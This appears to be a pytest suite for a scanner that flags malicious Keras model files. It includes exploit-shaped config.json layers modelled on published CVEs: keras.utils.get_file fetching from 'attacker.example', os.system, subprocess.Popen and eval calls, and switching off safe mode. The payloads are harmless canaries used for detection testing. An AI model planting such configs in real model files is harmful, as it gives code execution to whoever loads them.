"""Keras model configs: Lambda layers, custom objects, module references, on files Keras writes.

Keras 3 fixtures are written by Keras itself (``KERAS_BACKEND=torch``), then edited the way the
published exploits edit ``config.json``. Keras 2 (tf.keras) cannot be installed next to Keras 3,
so its legacy ``.h5`` files are written with h5py exactly as Keras 2's ``save_model`` wrote them
(root attributes ``keras_version``, ``backend``, ``model_config``, ``training_config`` as UTF-8
bytes) from configs in Keras 2's JSON layout. Payloads are canaries: a file that must never appear.
"""

from __future__ import annotations

import base64
import importlib
import io
import json
import marshal
import os
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aispm.analysis import hdf5_isolated, keras_model
from aispm.analysis.artifact_report import FormatResult, Verdict
from aispm.analysis.hdf5_header import root_attributes
from aispm.analysis.keras_model import analyze_keras_config, analyze_keras_h5, analyze_keras_zip
from aispm.analysis.model_scan import scan_model_file

CANARY = Path(tempfile.gettempdir()) / "aispm-canary-keras"


_ARMED = [True]


def _canary_lambda(x: Any) -> Any:
    """The payload: touches the canary when called (disarmed while Keras builds the fixtures)."""
    if _ARMED[0]:
        Path(str(CANARY)).touch()
    return x


def rules(result: FormatResult) -> list[str]:
    return [i.rule for i in result.issues]


def zip_result(data: bytes, member: str | None = None) -> FormatResult:
    return analyze_keras_zip(io.BytesIO(data), len(data), member)


def h5_result(path: Path) -> FormatResult:
    return analyze_keras_h5(path, path.stat().st_size, None)


# --- Keras 3 files written by Keras ---


@pytest.fixture(scope="module")
def keras3(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Real .keras and .h5 files: benign, with a lambda, with a custom layer."""
    os.environ.setdefault("KERAS_BACKEND", "torch")
    keras = pytest.importorskip("keras")
    out = tmp_path_factory.mktemp("keras3")
    _ARMED[0] = False  # Keras calls the Lambda on symbolic tensors while building the model
    try:
        return _build_keras3(keras, out)
    finally:
        _ARMED[0] = True


def _build_keras3(keras: Any, out: Path) -> dict[str, Path]:

    inp = keras.Input((8,), name="features")
    x = keras.layers.Dense(16, activation="relu", name="hidden")(inp)
    x = keras.layers.Dropout(0.1)(x)
    inner = keras.Sequential([keras.layers.Dense(4), keras.layers.BatchNormalization()], name="head")
    benign = keras.Model(inp, keras.layers.Softmax()(inner(x)))
    benign.save(out / "benign.keras")
    benign.save(out / "benign.h5")

    y = keras.layers.Lambda(lambda t: _canary_lambda(t), name="payload")(keras.layers.Dense(4)(inp))
    with_lambda = keras.Model(inp, y)
    with_lambda.save(out / "lambda.keras")
    with_lambda.save(out / "lambda.h5")

    @keras.saving.register_keras_serializable(package="MyProject")
    class Scale(keras.layers.Layer):  # type: ignore[misc]
        def call(self, t: Any) -> Any:
            return t * 2

    custom = keras.Model(inp, Scale()(inp))
    custom.save(out / "custom.keras")
    return {p.stem + p.suffix: p for p in out.iterdir()}


def edit_config(
    src: Path, dst: Path, edit: Callable[[dict[str, Any]], None], extra: dict[str, bytes] | None = None
) -> bytes:
    """Rewrite a .keras archive with ``edit`` applied to its config.json (and extra members)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "config.json":
                config = json.loads(data)
                edit(config)
                data = json.dumps(config).encode()
            zout.writestr(info, data)
        for name, payload in (extra or {}).items():
            zout.writestr(name, payload)
    return dst.read_bytes()


def layers_of(config: dict[str, Any]) -> list[dict[str, Any]]:
    layers: list[dict[str, Any]] = config["config"]["layers"]
    return layers


def test_real_benign_keras_archive_is_safe(keras3: dict[str, Path]) -> None:
    result = zip_result(keras3["benign.keras"].read_bytes())
    assert result.issues == ()
    facts = result.facts
    assert facts["model_class"] == "Functional"
    assert {"Dense", "Dropout", "Sequential", "BatchNormalization", "Softmax", "InputLayer"} <= set(
        facts["layer_classes"]  # type: ignore[arg-type]
    )
    assert facts["layer_count"] >= 7  # type: ignore[operator]
    assert isinstance(facts["keras_version"], str)


def test_real_benign_h5_is_safe(keras3: dict[str, Path]) -> None:
    result = h5_result(keras3["benign.h5"])
    assert result.issues == ()
    assert result.facts["backend"] == "torch"
    assert result.facts["has_model_config"] is True


def test_real_lambda_is_critical(keras3: dict[str, Path]) -> None:
    for name in ("lambda.keras", "lambda.h5"):
        path = keras3[name]
        result = zip_result(path.read_bytes()) if name.endswith(".keras") else h5_result(path)
        assert rules(result) == ["keras.lambda-layer"], name
        issue = result.issues[0]
        assert (issue.verdict, str(issue.severity)) == (Verdict.MALICIOUS, "critical")
        assert str(issue.detail["function"]).startswith("bytecode, ")
        assert "payload" in issue.message
    assert not CANARY.exists()


def test_real_registered_custom_layer_is_suspicious(keras3: dict[str, Path]) -> None:
    result = zip_result(keras3["custom.keras"].read_bytes())
    assert rules(result) == ["keras.custom-object"]
    assert result.issues[0].verdict is Verdict.SUSPICIOUS
    assert result.issues[0].detail["registered_name"] == "MyProject>Scale"


# --- published exploit shapes, applied to a real archive ---


def _lambda_layer(
    function: dict[str, Any], arguments: dict[str, Any], kwargs: dict[str, Any]
) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "gadget", "function": function, "arguments": arguments},
        "build_config": {"input_shape": [None, 8]},
        "name": "gadget",
        "inbound_nodes": [{"args": [], "kwargs": kwargs}],
    }


def _fn(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": "function"}


EXPLOITS: dict[str, tuple[dict[str, Any], set[str], str]] = {
    # CVE-2025-8747: keras.utils.get_file as a Lambda function downloads to any path.
    "get_file": (
        _lambda_layer(
            _fn("keras.utils", "get_file"),
            {"origin": "https://attacker.example/payload", "cache_dir": "/tmp", "cache_subdir": "x"},
            {"fname": "aispm-canary"},
        ),
        {"keras.lambda-layer", "keras.unsafe-function"},
        "high",
    ),
    # CVE-2025-9906: switch safe mode off from inside config.json.
    "enable_unsafe_deserialization": (
        _lambda_layer(_fn("keras.config", "enable_unsafe_deserialization"), {}, {}),
        {"keras.lambda-layer", "keras.unsafe-function"},
        "critical",
    ),
    # The second stage: load another model with safe_mode=False.
    "load_model": (
        _lambda_layer(_fn("keras.models", "load_model"), {"safe_mode": False}, {"inputs": "/tmp/x.keras"}),
        {"keras.lambda-layer", "keras.unsafe-function"},
        "critical",
    ),
    # CVE-2025-1550: any module named in config.json was imported and called.
    "os.system": (
        _lambda_layer(_fn("os", "system"), {}, {"command": f"touch {CANARY}"}),
        {"keras.lambda-layer", "keras.external-module"},
        "critical",
    ),
    "subprocess class": (
        {"module": "subprocess", "class_name": "Popen", "config": {"args": ["touch", str(CANARY)]}},
        {"keras.external-module"},
        "critical",
    ),
    "builtins eval": (
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {"name": "d", "units": 2, "activation": _fn("builtins", "eval")},
        },
        {"keras.external-module"},
        "critical",
    ),
    "webbrowser": (
        {"module": "webbrowser", "class_name": "open", "config": {"url": "https://attacker.example"}},
        {"keras.external-module"},
        "high",
    ),
    # CVE-2025-12058: lookup vocabulary read from a path or URL at load time.
    "vocabulary url": (
        {
            "module": "keras.layers",
            "class_name": "StringLookup",
            "config": {"name": "lookup", "vocabulary": "https://attacker.example/vocab.txt"},
        },
        {"keras.external-file"},
        "high",
    ),
    "TFSMLayer": (
        {
            "module": "keras.layers",
            "class_name": "TFSMLayer",
            "config": {"name": "tfsm", "filepath": "/tmp/other_saved_model", "call_endpoint": "serve"},
        },
        {"keras.external-file"},
        "high",
    ),
}


@pytest.mark.parametrize("name", sorted(EXPLOITS))
def test_exploit_configs_are_malicious(keras3: dict[str, Path], tmp_path: Path, name: str) -> None:
    layer, expected, severity = EXPLOITS[name]
    data = edit_config(keras3["benign.keras"], tmp_path / "x.keras", lambda c: layers_of(c).append(layer))
    result = zip_result(data, "x.keras")
    assert set(rules(result)) == expected, [i.message for i in result.issues]
    worst = max(result.issues, key=lambda i: i.severity != "high")
    assert all(i.verdict is Verdict.MALICIOUS for i in result.issues)
    assert str(worst.severity) in (severity, "critical")
    assert {str(i.severity) for i in result.issues if i.rule != "keras.lambda-layer"} == {severity}
    assert all(i.member == "x.keras" for i in result.issues)
    assert not CANARY.exists()


def test_vocabulary_file_path_is_suspicious(keras3: dict[str, Path], tmp_path: Path) -> None:
    layer = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": "/home/me/vocab.txt"},
    }
    data = edit_config(keras3["benign.keras"], tmp_path / "x.keras", lambda c: layers_of(c).append(layer))
    result = zip_result(data)
    assert rules(result) == ["keras.external-file"]
    assert result.issues[0].verdict is Verdict.SUSPICIOUS
    inline = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"name": "lookup", "vocabulary": ["a", "b"]},
    }
    data = edit_config(keras3["benign.keras"], tmp_path / "y.keras", lambda c: layers_of(c).append(inline))
    assert zip_result(data).issues == ()


def test_lambda_nested_deep_in_a_sequential(keras3: dict[str, Path], tmp_path: Path) -> None:
    def edit(config: dict[str, Any]) -> None:
        head = next(layer for layer in layers_of(config) if layer["class_name"] == "Sequential")
        head["config"]["layers"].append(_lambda_layer(_fn("builtins", "plain"), {}, {}))

    result = zip_result(edit_config(keras3["benign.keras"], tmp_path / "x.keras", edit))
    assert rules(result) == ["keras.lambda-layer"]
    assert "builtins.plain" in str(result.issues[0].detail["function"])


def test_decoys_stay_quiet(keras3: dict[str, Path], tmp_path: Path) -> None:
    def edit(config: dict[str, Any]) -> None:
        dense = next(layer for layer in layers_of(config) if layer["class_name"] == "Dense")
        dense["config"]["name"] = "lambda_os_system"
        dense["name"] = "lambda_os_system"
        layers_of(config).append(
            {
                "module": "keras_hub.src.models.gemma.gemma_backbone",
                "class_name": "GemmaBackbone",
                "config": {"name": "gemma"},
                "registered_name": "keras_hub>GemmaBackbone",
            }
        )
        config["config"]["note"] = "subprocess and os.system are only words here"

    assert zip_result(edit_config(keras3["benign.keras"], tmp_path / "x.keras", edit)).issues == ()


def test_stray_pickle_and_code_members(keras3: dict[str, Path], tmp_path: Path) -> None:
    pickled = b"\x80\x04\x95" + b"\x00" * 20
    extra = {
        "assets/tokenizer.bin": pickled,
        "custom_layers.py": b"import os\n",
        "assets/vocab.txt": b"a\nb\n",
    }
    data = edit_config(keras3["benign.keras"], tmp_path / "x.keras", lambda c: None, extra)
    result = zip_result(data)
    assert rules(result) == ["keras.unexpected-member", "keras.unexpected-member"]
    assert {i.detail["name"] for i in result.issues} == {"assets/tokenizer.bin", "custom_layers.py"}


def test_every_config_json_copy_is_read(keras3: dict[str, Path]) -> None:
    # Python's zipfile (Keras' reader) takes the last copy; other readers may take the first.
    payload = json.dumps({"class_name": "Functional", "config": {"layers": [EXPLOITS["os.system"][0]]}})
    buf = io.BytesIO(keras3["benign.keras"].read_bytes())
    with zipfile.ZipFile(buf, "a") as zf, pytest.warns(UserWarning, match="Duplicate name"):
        zf.writestr("config.json", payload)
    result = zip_result(buf.getvalue())
    assert set(rules(result)) == {"keras.duplicate-member", "keras.external-module", "keras.lambda-layer"}


# --- Keras 2 legacy .h5, written as Keras 2 wrote it ---


def keras2_lambda(fn: Callable[..., Any], module: str = "__main__") -> dict[str, Any]:
    """A Keras 2 Lambda layer config: ``func_dump`` output (base64 marshalled code)."""
    code = base64.encodebytes(marshal.dumps(fn.__code__)).decode("ascii")
    return {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": [code, None, None],
            "function_type": "lambda",
            "module": module,
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def keras2_model(*extra_layers: dict[str, Any], functional: bool = False) -> dict[str, Any]:
    dense = {
        "class_name": "Dense",
        "config": {
            "name": "dense",
            "trainable": True,
            "dtype": "float32",
            "units": 3,
            "activation": "relu",
            "use_bias": True,
            "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
            "bias_initializer": {"class_name": "Zeros", "config": {}},
            "kernel_regularizer": None,
        },
    }
    inp = {
        "class_name": "InputLayer",
        "config": {
            "batch_input_shape": [None, 4],
            "dtype": "float32",
            "sparse": False,
            "ragged": False,
            "name": "input_1",
        },
    }
    layers = [
        inp,
        dense,
        {"class_name": "Dropout", "config": {"name": "dropout", "rate": 0.5}},
        *extra_layers,
    ]
    if functional:
        previous = "input_1"
        for layer in layers:
            layer["name"] = layer["config"]["name"]
            layer["inbound_nodes"] = [] if layer is inp else [[[previous, 0, 0, {}]]]
            previous = layer["name"]
        return {
            "class_name": "Functional",
            "config": {
                "name": "model",
                "layers": layers,
                "input_layers": [["input_1", 0, 0]],
                "output_layers": [[previous, 0, 0]],
            },
        }
    return {"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}}


def write_keras2_h5(path: Path, config: dict[str, Any], training: dict[str, Any] | None = None) -> Path:
    with h5py.File(path, "w") as f:
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["backend"] = b"tensorflow"
        f.attrs["model_config"] = json.dumps(config).encode("utf8")
        if training is not None:
            f.attrs["training_config"] = json.dumps(training).encode("utf8")
        weights = f.create_group("model_weights")
        weights.attrs["layer_names"] = [b"dense"]
        weights.create_group("dense").create_dataset("kernel:0", data=np.ones((4, 3), np.float32))
    return path


TRAINING = {
    "loss": "categorical_crossentropy",
    "metrics": [["accuracy"]],
    "optimizer_config": {"class_name": "Adam", "config": {"name": "Adam", "learning_rate": 0.001}},
}


@pytest.mark.parametrize("functional", [False, True])
def test_keras2_benign_h5(tmp_path: Path, functional: bool) -> None:
    result = h5_result(write_keras2_h5(tmp_path / "m.h5", keras2_model(functional=functional), TRAINING))
    assert result.issues == ()
    assert result.facts["keras_version"] == "2.15.0"
    assert result.facts["layer_count"] == 3


def test_keras2_lambda_bytecode(tmp_path: Path) -> None:
    config = keras2_model(keras2_lambda(lambda t: _canary_lambda(t)), functional=True)
    result = h5_result(write_keras2_h5(tmp_path / "m.h5", config))
    assert rules(result) == ["keras.lambda-layer"]
    assert str(result.issues[0].detail["function"]).startswith("bytecode, ")
    assert not CANARY.exists()


def test_keras2_lambda_with_os_globals(tmp_path: Path) -> None:
    config = keras2_model(keras2_lambda(lambda t: t, module="os"))
    assert set(rules(h5_result(write_keras2_h5(tmp_path / "m.h5", config)))) == {
        "keras.lambda-layer",
        "keras.external-module",
    }


def test_keras2_lambda_function_reference(tmp_path: Path) -> None:
    layer = {
        "class_name": "Lambda",
        "config": {
            "name": "l",
            "function": "system",
            "function_type": "function",
            "module": "posix",
            "arguments": {},
        },
    }
    result = h5_result(write_keras2_h5(tmp_path / "m.h5", keras2_model(layer)))
    assert set(rules(result)) == {"keras.lambda-layer", "keras.external-module"}
    lam = next(i for i in result.issues if i.rule == "keras.lambda-layer")
    assert lam.detail["function"] == "posix.system"


def test_keras2_tf_op_lambda(tmp_path: Path) -> None:
    benign = {"class_name": "TFOpLambda", "config": {"name": "tf.math.multiply", "function": "math.multiply"}}
    write = {"class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "function": "io.write_file"}}
    pyfn = {"class_name": "TFOpLambda", "config": {"name": "tf.py_function", "function": "py_function"}}
    assert h5_result(write_keras2_h5(tmp_path / "a.h5", keras2_model(benign))).issues == ()
    result = h5_result(write_keras2_h5(tmp_path / "b.h5", keras2_model(write, pyfn)))
    assert rules(result) == ["keras.unsafe-function", "keras.unsafe-function"]
    assert {str(i.severity) for i in result.issues} == {"high", "critical"}


def test_keras2_registered_custom_layer_and_loss(tmp_path: Path) -> None:
    layer = {"class_name": "Addons>GroupNormalization", "config": {"name": "gn", "groups": 2}}
    training = {
        **TRAINING,
        "loss": {"class_name": "function", "config": "my_focal_loss", "module": "losses_lib"},
    }
    result = h5_result(write_keras2_h5(tmp_path / "m.h5", keras2_model(layer), training))
    assert rules(result) == ["keras.custom-object", "keras.custom-object"]


def test_weights_only_h5_is_safe(tmp_path: Path) -> None:
    with h5py.File(tmp_path / "w.h5", "w") as f:
        f.attrs["backend"] = b"tensorflow"
        f.attrs["keras_version"] = b"2.15.0"
        f.create_dataset("dense/kernel:0", data=np.ones((2, 2)))
    result = h5_result(tmp_path / "w.h5")
    assert result.issues == ()
    assert result.facts["has_model_config"] is False


def test_h5_from_a_file_object(tmp_path: Path) -> None:
    path = write_keras2_h5(tmp_path / "m.h5", keras2_model(keras2_lambda(lambda t: t)))
    data = path.read_bytes()
    assert rules(analyze_keras_h5(io.BytesIO(data), len(data), "m.h5")) == ["keras.lambda-layer"]


# --- broken input and bounds ---


def test_oversized_attribute_is_refused_before_reading(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = write_keras2_h5(tmp_path / "m.h5", keras2_model())
    monkeypatch.setattr(keras_model, "MAX_CONFIG_BYTES", 100)
    result = h5_result(path)
    assert rules(result) == ["keras.malformed"]
    assert "over 100" in result.issues[0].message


def test_h5_the_static_reader_is_unsure_of_is_read_in_a_child(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The newest HDF5 format keeps many attributes in dense storage, which the static reader does
    # not follow: h5py reads the file, isolated in a child process.
    path = tmp_path / "latest.h5"
    with h5py.File(path, "w", libver="latest") as f:
        for i in range(12):
            f.attrs[f"note_{i}"] = i
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["model_config"] = json.dumps(keras2_model(keras2_lambda(lambda t: t)))
    with open(path, "rb") as fh:
        assert root_attributes(fh, path.stat().st_size, {"model_config": 1 << 20}) is None
    assert rules(h5_result(path)) == ["keras.lambda-layer"]
    data = path.read_bytes()  # a container member has no file of its own: it is copied for the child
    assert rules(analyze_keras_h5(io.BytesIO(data), len(data), "latest.h5")) == ["keras.lambda-layer"]
    # Through the router, the child reopens the scanned file by its inherited descriptor.
    copied: list[object] = []
    monkeypatch.setattr(hdf5_isolated.shutil, "copyfileobj", lambda *a, **k: copied.append(a))
    report = scan_model_file(path)
    assert report is not None and report.verdict is Verdict.MALICIOUS
    assert [i.rule for i in report.issues] == ["keras.lambda-layer"] and copied == []


def test_h5_that_hangs_or_crashes_the_hdf5_library_is_unscannable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # One changed byte each, found by fuzzing h5py 3.16 in process: a global-heap object whose size
    # runs past its neighbours hung the library, a variable-length string whose base type claims
    # 124-byte characters crashed it (SIGSEGV). The static reader is unsure of both; the child that
    # reads them instead is stopped at its time limit or fails alone, and the file is unscannable.
    monkeypatch.setattr(hdf5_isolated, "TIME_LIMIT_S", 3.0)
    for mutate in (_heap_object_too_long, _vlen_base_type_too_wide):
        data = mutate(bytearray(_hostile_base()))
        result = analyze_keras_h5(io.BytesIO(data), len(data), "m.h5")
        assert rules(result) == ["keras.malformed"], mutate.__name__
        assert result.issues[0].verdict is Verdict.UNSCANNABLE


def _hostile_base() -> bytes:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["model_config"] = json.dumps(keras2_model(keras2_lambda(lambda t: t))).encode()
        f.attrs["training_config"] = json.dumps({"loss": "mse"})
        f.create_dataset("model_weights/dense/kernel:0", data=np.ones((4, 3), np.float32))
    return buf.getvalue()


def _heap_object_too_long(data: bytearray) -> bytes:
    at = data.index(b'{"loss": "mse"}') - 8  # the object's size field, just before its bytes
    assert data[at] == 15
    data[at] = 220
    return bytes(data)


def _vlen_base_type_too_wide(data: bytearray) -> bytes:
    at = data.index(b"keras_version\x00") + 16 + 8  # the datatype after the padded name, then its base type
    assert data[at] == 0x10 and data[at + 4] == 1  # a one-byte string base type
    data[at + 4] = 124
    return bytes(data)


def test_without_h5py_the_child_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = importlib.import_module

    def no_h5py(name: str, package: str | None = None) -> Any:
        if name == "h5py":
            raise ImportError("no h5py")
        return real(name, package)

    monkeypatch.setattr(hdf5_isolated.importlib, "import_module", no_h5py)
    answer = hdf5_isolated._read_with_h5py(str(tmp_path / "any.h5"), {"model_config": 10})
    assert "h5py not installed" in answer["error"]


def test_broken_h5_and_zip(tmp_path: Path) -> None:
    (tmp_path / "x.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + b"\0" * 100)
    assert rules(h5_result(tmp_path / "x.h5")) == ["keras.malformed"]
    assert rules(zip_result(b"PK\x03\x04 not really")) == ["keras.malformed"]
    assert rules(zip_result(b"")) == ["keras.malformed"]


def test_archive_problems(keras3: dict[str, Path], tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("metadata.json", "{}")
    assert rules(zip_result(buf.getvalue())) == ["keras.malformed"]  # no config.json
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("config.json", "{not json")
    assert rules(zip_result(buf.getvalue())) == ["keras.malformed"]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("config.json", "[" * 100_000 + "]" * 100_000)
    assert rules(zip_result(buf.getvalue())) == ["keras.malformed"]
    # A config that inflates past the bound (a zip bomb) is refused, not inflated.
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("config.json", b" " * (keras_model.MAX_CONFIG_BYTES + 10))
    result = zip_result(buf.getvalue())
    assert rules(result) == ["keras.malformed"]
    assert "over" in result.issues[0].message


def test_config_walk_is_bounded() -> None:
    deep: Any = {"class_name": "Dense"}
    for _ in range(keras_model.MAX_DEPTH + 5):
        deep = {"config": deep}
    result = analyze_keras_config(deep, member=None)
    assert rules(result) == ["keras.malformed"]
    assert "deeper" in result.issues[0].message


_JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(max_size=6)
    | st.sampled_from(
        ["Lambda", "function", "os", "keras.layers", "__lambda__", "builtins", "a>b", "layers"]
    ),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                [
                    "class_name",
                    "module",
                    "config",
                    "registered_name",
                    "function",
                    "layers",
                    "vocabulary",
                    "function_type",
                    "code",
                    "name",
                ]
            ),
            inner,
            max_size=5,
        )
    ),
    max_leaves=30,
)


@settings(max_examples=500, deadline=None)
@given(_JSON)
def test_fuzz_config_walk(config: Any) -> None:
    result = analyze_keras_config(config, member=None)
    assert all(i.rule.startswith("keras.") for i in result.issues)


@settings(max_examples=200, deadline=None)
@given(st.integers(min_value=0, max_value=400), st.binary(min_size=1, max_size=6))
def test_fuzz_mutated_archive(offset: int, patch: bytes) -> None:
    mutated = bytearray(_SAMPLE_ZIP)
    at = offset % len(mutated)
    mutated[at : at + len(patch)] = patch
    result = zip_result(bytes(mutated))
    assert all(i.rule.startswith("keras.") for i in result.issues)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), min_size=1, max_size=4))
def test_fuzz_mutated_h5(patches: list[tuple[int, int]]) -> None:
    # The static reader and the verdict built on it; files it is unsure of go to the isolated
    # child, which is tested above and stood in for here to keep the fuzzing fast.
    mutated = bytearray(_SAMPLE_H5)
    for at, value in patches:
        mutated[at % len(mutated)] = value
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(hdf5_isolated, "read_root_attributes", _isolated_refuses)
        result = analyze_keras_h5(io.BytesIO(bytes(mutated)), len(mutated), None)
    assert all(i.rule.startswith("keras.") for i in result.issues)


def _isolated_refuses(*_: object, **__: object) -> Any:
    raise hdf5_isolated.IsolatedReadError("left to the child")


def _sample_h5() -> bytes:
    buf = io.BytesIO()
    with h5py.File(buf, "w") as f:
        f.attrs["keras_version"] = b"2.15.0"
        f.attrs["model_config"] = json.dumps(keras2_model(keras2_lambda(lambda t: t))).encode()
        f.attrs["training_config"] = json.dumps(TRAINING)  # a variable-length string, as Keras 3 writes
        f.create_dataset("model_weights/dense/kernel:0", data=np.ones((4, 3), np.float32))
    return buf.getvalue()


_SAMPLE_H5 = _sample_h5()


def _sample_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("config.json", json.dumps(keras2_model(keras2_lambda(lambda t: t))))
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
    return buf.getvalue()


_SAMPLE_ZIP = _sample_zip()


def teardown_module() -> None:
    assert not CANARY.exists(), "a payload ran"
